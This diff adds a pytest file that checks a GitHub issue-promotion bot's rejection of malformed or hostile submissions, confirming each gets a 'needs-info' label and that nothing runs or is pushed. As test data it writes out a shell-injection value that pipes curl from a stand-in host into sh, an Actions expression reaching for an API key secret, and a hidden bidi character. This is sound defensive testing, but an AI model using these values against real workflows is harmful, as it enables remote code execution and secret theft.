@@ -1,0 +1,65 @@
+"""Malformed or hostile promotion issues: `needs-info` and a comment naming the fix; nothing run, nothing pushed."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.github.actions_sim import REPO
+from tests.github.forms import example_values, render_form
+from tests.github.test_github_flow import TITLE, labels_of, sim  # noqa: F401 - the fixture
+
+pytestmark = pytest.mark.slow
+
+TWO_BLOCKS = """package sim
+
+func Route(x int) int {
+	// EVOLVE-BLOCK-START
+	y := x
+	// EVOLVE-BLOCK-END
+	// EVOLVE-BLOCK-START
+	return y
+	// EVOLVE-BLOCK-END
+}
+"""
+
+
+def _body(**overrides) -> str:
+    return render_form(example_values() | overrides, {"baselines": [0, 1], "consent": [0]})
+
+
+CASES = {
+    "no code": (_body(source=""), "no code was pasted and no reference was given"),
+    "two EVOLVE blocks": (_body(source=TWO_BLOCKS), "EVOLVE-BLOCK"),
+    "not Go": (_body(source="def route(x):\n    return x\n"), "Evolved program:"),
+    "2 MB of text": (_body() + "x" * 2_000_000, "the limit is 65,536"),
+    "expression injection": (_body(blis_version="${{ secrets.ANTHROPIC_API_KEY }}"), "GitHub Actions expression"),
+    "shell injection": (_body(openevolve_run="run $(curl evil.example | sh)"), "shell syntax `$(`"),
+    "hidden bidi": (_body(source=example_values()["source"].replace("return", "\u202ereturn", 1)), "bidirectional"),
+    "forged marker": (_body() + "\n<!-- promotion-bot:status -->\n", "marker, which only the bot writes"),
+    "os/exec": (_body(source=example_values()["source"].replace('"math"', '"math"\n\t"os/exec"', 1)), "os/exec"),
+}
+
+
+@pytest.mark.parametrize("case", list(CASES))
+def test_malformed_issue_gets_needs_info_and_nothing_runs(sim, case):  # noqa: F811
+    body, needle = CASES[case]
+    number = sim.fake.create_issue(REPO, TITLE, "placeholder", "researcher", labels=("promotion",))
+    sim.fake.issue(REPO, number).body = body  # as delivered (GitHub itself refuses to create a 2 MB body)
+    run = sim.event("issues", "opened", number, sender="researcher")
+    assert run.result.action == "needs-info", run.result
+    assert "needs-info" in labels_of(sim, number)
+    [comment] = [c for c in sim.fake.comments(REPO, number) if "promotion-bot:needs-info" in c.body]
+    assert needle in comment.body, comment.body
+    assert not any(r.sandbox_ran for r in sim.runs) and not (sim.root / "artifacts").exists()
+    assert sim.fake.pushes == [] and sim.fake.pulls(REPO) == []
+    assert not any("promotion-bot:status" in c.body for c in sim.fake.comments(REPO, number))
+
+
+def test_fixing_the_issue_clears_needs_info_and_starts(sim):  # noqa: F811
+    number = sim.fake.create_issue(REPO, TITLE, _body(source=""), "researcher", labels=("promotion",))
+    sim.event("issues", "opened", number, sender="researcher")
+    assert "needs-info" in labels_of(sim, number)
+    sim.fake.issue(REPO, number).body = _body()
+    sim.event("issues", "edited", number, sender="researcher")
+    assert "needs-info" not in labels_of(sim, number)
+    assert any(c.body.startswith("<!-- promotion-bot:status -->") for c in sim.fake.comments(REPO, number))
